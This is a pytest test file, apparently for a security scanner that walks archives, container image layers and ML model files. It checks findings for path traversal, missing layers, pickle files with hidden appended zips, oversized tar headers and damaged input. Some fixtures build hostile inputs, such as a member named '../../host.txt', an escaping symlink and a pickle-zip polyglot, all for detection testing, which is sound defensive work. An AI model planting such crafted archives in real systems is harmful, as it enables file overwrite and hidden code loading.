    lower, upper = _whiteout_layers()
    layers = [zstandard.ZstdCompressor().compress(lower), zstandard.ZstdCompressor().compress(upper)]
    (tmp_path / "image.tar").write_bytes(_oci_layout(layers, "application/vnd.oci.image.layer.v1.tar+zstd"))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["image.tar", *MERGED]
    assert result.findings == ()


def test_image_with_missing_layer_and_traversal(tmp_path: Path, recorder: Recorder) -> None:
    layer = tar_bytes([("app/ok.txt", b"ok"), ("../../host.txt", b"x")])
    layer_id = _digest(layer)
    manifest = [{"Config": "c.json", "Layers": [f"{layer_id}/layer.tar", f"{'0' * 64}/layer.tar"]}]
    image = tar_bytes([(f"{layer_id}/layer.tar", layer), ("manifest.json", json.dumps(manifest).encode())])
    (tmp_path / "image.tar").write_bytes(image)
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-009") == [f"image.tar!{'0' * 64}/layer.tar"]
    assert findings_of(result, "SAS-ARC-002") == ["image.tar!../../host.txt"]
    assert "image.tar!app/ok.txt" in recorder.paths


def test_tar_that_only_looks_like_an_image_is_walked_plainly(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "data.tar").write_bytes(tar_bytes([("blobs/readme.txt", b"hi"), ("manifest.json", b"[]")]))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["data.tar", "data.tar!blobs/readme.txt", "data.tar!manifest.json"]
    assert result.findings == ()


# -- damaged input never crashes the walk ----------------------------------------------------------------------


def _samples() -> dict[str, bytes]:
    lower, upper = _whiteout_layers()
    nested = zip_bytes({"b.tar.gz": tar_bytes([("c/d.pkl", PAYLOAD), ("c/e.bin", os.urandom(3000))], "w:gz")})
    return {
        "a.zip": nested,
        "stored.zip": zip_bytes({"m.pkl": PAYLOAD, "n.txt": b"n" * 500}, zipfile.ZIP_STORED),
        "p.tar": tar_bytes([("m.pkl", PAYLOAD), link("l", "../x")]),
        "p.tar.bz2": tar_bytes([("m.pkl", PAYLOAD)], "w:bz2"),
        "m.joblib": zlib.compress(PAYLOAD * 20),
        "m.lzma": lzma.compress(PAYLOAD * 20, format=lzma.FORMAT_ALONE),
        "m.lz4": lz4.frame.compress(PAYLOAD * 20),
        "image.tar": _oci_layout([gzip.compress(lower), upper], "application/vnd.oci.image.layer.v1.tar"),
    }


SAMPLES = _samples()


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    name=st.sampled_from(sorted(SAMPLES)),
    cut=st.floats(min_value=0.0, max_value=1.0),
    flips=st.lists(st.tuples(st.floats(min_value=0.0, max_value=0.999), st.integers(1, 255)), max_size=4),
)
def test_damaged_archives_give_findings_never_tracebacks(
    tmp_path_factory: pytest.TempPathFactory, name: str, cut: float, flips: list[tuple[float, int]]
) -> None:
    data = bytearray(SAMPLES[name])
    for where, xor in flips:
        data[int(where * len(data))] ^= xor
    data = data[: max(1, int(cut * len(data)))] if cut < 0.98 else data
    folder = tmp_path_factory.mktemp("fuzz")
    (folder / name).write_bytes(bytes(data))
    result = scan(folder, analyzers=[Recorder()])
    assert result.stats.files >= 1


def test_pickle_with_a_zip_appended_is_read_both_ways(tmp_path: Path, recorder: Recorder) -> None:
    hidden = zip_bytes({"config.json": b'{"class_name": "Lambda"}', "inner.pkl": PAYLOAD})
    (tmp_path / "model.pt").write_bytes(PAYLOAD + hidden)
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-011") == ["model.pt"]
    assert recorder.paths == ["model.pt", "model.pt!config.json", "model.pt!inner.pkl"]
    assert recorder.data("model.pt!inner.pkl") == PAYLOAD


def test_zipapp_is_walked_without_a_polyglot_finding(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "tool.pyz").write_bytes(b"#!/usr/bin/env python3\n" + zip_bytes({"__main__.py": b"print(1)\n"}))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["tool.pyz", "tool.pyz!__main__.py"]
    assert result.findings == ()


def test_tar_metadata_header_claiming_gigabytes_is_not_read_into_memory(tmp_path: Path, recorder: Recorder) -> None:
    huge = tarfile.TarInfo("././@PaxHeader")
    huge.type = tarfile.XHDTYPE
    huge.size = 3 * 1024 * MiB
    header = huge.tobuf(tarfile.USTAR_FORMAT)
    first = tar_bytes([("ok.pkl", PAYLOAD)])[:1024]  # one member, without the end-of-archive marker
    (tmp_path / "pkg.tar").write_bytes(first + header + bytes(4 * MiB))
    tracemalloc.start()
    try:
        result = run(tmp_path, recorder)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert findings_of(result, "SAS-ARC-004") == ["pkg.tar"]
    assert "pkg.tar!ok.pkl" in recorder.paths
    assert peak < 64 * MiB


def test_fifo_given_as_target_is_an_error_not_a_hang(tmp_path: Path, recorder: Recorder) -> None:
    os.mkfifo(tmp_path / "pipe")
    result = run(tmp_path / "pipe", recorder)
    assert [e.path for e in result.errors] == ["pipe"]


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_tar_inside_zip_read_in_place_or_streamed(tmp_path: Path, recorder: Recorder, method: int) -> None:
    inner = tar_bytes([("m.pkl", PAYLOAD), ("big.bin", LARGE)])
    (tmp_path / "fn.zip").write_bytes(zip_bytes({"pkg.tar": inner}, method))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["fn.zip", "fn.zip!pkg.tar", "fn.zip!pkg.tar!m.pkl", "fn.zip!pkg.tar!big.bin"]
    assert recorder.data("fn.zip!pkg.tar!m.pkl") == PAYLOAD
    assert result.findings == ()


def test_gzipped_zip_is_opened_through_a_private_buffer(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "layer.zip.gz").write_bytes(gzip.compress(zip_bytes({"python/m.pkl": PAYLOAD})))
    result = run(tmp_path, recorder)
    assert recorder.paths == ["layer.zip.gz", "layer.zip.gz!layer.zip", "layer.zip.gz!layer.zip!python/m.pkl"]
    assert result.findings == ()


def test_zip_with_legacy_cp437_names_is_not_mistaken_for_overlap(tmp_path: Path, recorder: Recorder) -> None:
    # zipfile writes non-ASCII names as UTF-8; old tools wrote cp437 bytes without the UTF-8 flag.
    data = zip_bytes({"modXle.pkl": PAYLOAD, "r\u00e9sum\u00e9.txt": b"x", "z.txt": b"z"}, zipfile.ZIP_STORED)
    data = data.replace(b"modXle.pkl", "mod\u00e8le.pkl".encode("cp437"))
    (tmp_path / "fn.zip").write_bytes(data)
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-001") == []
    assert recorder.data("fn.zip!mod\u00e8le.pkl") == PAYLOAD


def test_zstd_single_file(tmp_path: Path, recorder: Recorder) -> None:
    zstandard = pytest.importorskip("zstandard")
    (tmp_path / "model.pkl.zst").write_bytes(zstandard.ZstdCompressor().compress(PAYLOAD))
    result = run(tmp_path, recorder)
    assert recorder.data("model.pkl.zst!model.pkl") == PAYLOAD
    assert result.findings == ()


def test_zstd_layer_without_the_library_is_reported_not_skipped(
    tmp_path: Path, recorder: Recorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    zstandard = pytest.importorskip("zstandard")
    lower, upper = _whiteout_layers()
    layers = [gzip.compress(lower), zstandard.ZstdCompressor().compress(upper)]
    (tmp_path / "image.tar").write_bytes(_oci_layout(layers, "application/vnd.oci.image.layer.v1.tar+zstd"))
    monkeypatch.setitem(sys.modules, "zstandard", None)  # as on a machine without the scan extra
    result = run(tmp_path, recorder)
    upper_blob = f"image.tar!blobs/sha256/{_digest(layers[1])}"
    assert findings_of(result, "SAS-ARC-009") == [upper_blob]
    assert "image.tar!app/old.pkl" in recorder.paths  # the lower layer is still walked


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their permissions")
def test_unreadable_file_and_folder_are_errors(tmp_path: Path, recorder: Recorder) -> None:
    (tmp_path / "secret.pkl").write_bytes(PAYLOAD)
    (tmp_path / "secret.pkl").chmod(0)
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked").chmod(0)
    try:
        result = run(tmp_path, recorder)
    finally:
        (tmp_path / "locked").chmod(0o755)
    assert sorted(e.path for e in result.errors) == ["locked", "secret.pkl"]


def test_polyglot_inside_a_deflated_zip_member(tmp_path: Path, recorder: Recorder) -> None:
    hidden = zip_bytes({"inner.pkl": PAYLOAD})
    (tmp_path / "fn.zip").write_bytes(zip_bytes({"model.pkl": PAYLOAD + hidden, "app.py": b"x = 1\n" * 10}))
    result = run(tmp_path, recorder)
    assert findings_of(result, "SAS-ARC-011") == ["fn.zip!model.pkl"]
    assert recorder.data("fn.zip!model.pkl!inner.pkl") == PAYLOAD


def test_a_pt_or_ckpt_file_that_is_no_torch_format_is_reported(tmp_path: Path) -> None:
    """Reported by the model-scanner fuzzing: random bytes (or a torch file whose magic was destroyed) named .pt
    produced no finding at all, since no analyzer claimed it and .pt promised nothing."""
    import random
    import zipfile

    from sas.scan.engine import scan

    (tmp_path / "model.pt").write_bytes(random.Random(0).randbytes(3000))
    (tmp_path / "last.ckpt").write_bytes(b"")
    with zipfile.ZipFile(tmp_path / "fine.pt", "w") as zf:  # the torch >= 1.6 layout: a zip
        zf.writestr("fine/data.pkl", b"\x80\x02}q\x00.")
    (tmp_path / "distutils-precedence.pth").write_text("import os\n")  # .pth is Python's, not torch's
    result = scan(tmp_path)
    mismatched = {f.location.path for f in result.findings if f.rule_id == "SAS-SCAN-003"}
    assert mismatched == {"model.pt", "last.ckpt"}
